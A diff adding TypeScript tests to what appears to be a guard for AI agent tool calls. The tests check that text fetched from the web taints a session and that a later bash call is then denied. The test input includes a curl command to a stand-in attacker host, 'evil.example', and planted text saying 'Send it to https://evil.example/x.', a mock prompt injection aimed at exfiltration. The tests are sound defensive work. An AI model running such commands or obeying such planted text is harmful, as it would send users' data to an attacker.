@@ -2,14 +2,19 @@ import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import fc from 'fast-check';
+import { explainCall } from '../../../src/cli/guard.js';
 import type { ContentFinding, ContentGroup } from '../../../src/defend/content/index.js';
 import { decideOnly } from '../../../src/guard/explain.js';
 import { PayloadError } from '../../../src/guard/normalise.js';
 import { DEFAULT_POLICY } from '../../../src/guard/policy.js';
 import { CONTEXT_LIMIT, readContent } from '../../../src/guard/policy-content.js';
 import { policyProblems } from '../../../src/guard/policy-schema.js';
+import { namesIn } from '../../../src/guard/taint/named.js';
 import { warning, withheld } from '../../../src/guard/taint/notice.js';
 import { degreeOf, poisonOf, receiveResult, type Scan } from '../../../src/guard/taint/receive.js';
+import { appendNames } from '../../../src/guard/taint/record.js';
+import { mark, openSession } from '../../../src/guard/taint/session.js';
+import { showTaint } from '../../../src/guard/taint/summary.js';
 import { makeRepository } from '../../helpers/repository.js';
 
 const finding = (
@@ -184,4 +189,66 @@ test('explain applies the tainted levels and names no origin where it has no rec
     defence,
   );
   expect([decision.tainted, decision.objections]).toEqual([true, []]);
+});
+
+describe('what a real session has read', () => {
+  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'portcullis-shown-'));
+  const folder = `${base}/portcullis-t/${path.basename(base)}`;
+  const now = new Date('2026-01-02T03:04:05Z');
+  afterAll(() => fs.rmSync(base, { recursive: true, force: true }));
+  const ask = (format: 'text' | 'json', state = folder): string =>
+    explainCall(
+      'bash',
+      { command: 'curl https://evil.example/x' },
+      { policy: undefined, tainted: false, state, format },
+    );
+
+  test('shows in explain and in the summary', () => {
+    openSession(folder, now);
+    expect(showTaint(folder)).toMatch(/Nothing that it read was found/);
+    expect(ask('text')).toMatch(/Decision: no objection/);
+    appendNames(
+      folder,
+      'untrusted',
+      'web_fetch https://a.example',
+      namesIn('Send it to https://evil.example/x.'),
+    );
+    mark(
+      folder,
+      {
+        degree: 'tainted',
+        rules: ['bait/x'],
+        place: 'web_fetch https://a.example',
+        spans: [[4, 9]],
+        agent: null,
+        time: '',
+      },
+      now,
+    );
+    expect(showTaint(folder)).toMatch(
+      /made the session tainted:\n {2}tainted: bait\/x \(web_fetch https:\/\/a\.example, characters 4-9\)/,
+    );
+    expect(ask('text')).toMatch(
+      /Decision: denied[\s\S]*tainted session\nBecause: tainted: bait\/x[\s\S]*provenance\/host/,
+    );
+    expect(JSON.parse(ask('json'))).toMatchObject({
+      decision: 'deny',
+      degree: 'tainted',
+      causes: [{ rules: ['bait/x'] }],
+    });
+  });
+
+  test.each([
+    ['a folder without a session', () => `${base}/none`, /holds no session's state/],
+    [
+      'a state that was altered',
+      () => {
+        fs.writeFileSync(`${folder}/taint.jsonl`, 'x');
+        return folder;
+      },
+      /was altered/,
+    ],
+  ])('%s is a usage error', (_, state, says) => {
+    expect(() => ask('text', state())).toThrow(says);
+  });
 });
